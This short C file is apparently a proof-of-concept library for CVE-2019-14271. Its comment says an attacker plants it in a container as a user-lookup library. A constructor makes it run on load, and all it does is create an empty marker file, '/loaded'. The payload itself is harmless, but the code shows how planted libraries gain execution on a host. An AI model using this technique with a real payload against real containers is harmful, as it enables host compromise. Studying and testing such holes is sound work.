/* A library for the lookup of users, as an attacker leaves it in a container: whoever loads it runs this (CVE-2019-14271). */
#include <fcntl.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void) { close(open("/loaded", O_CREAT | O_WRONLY, 0600)); }
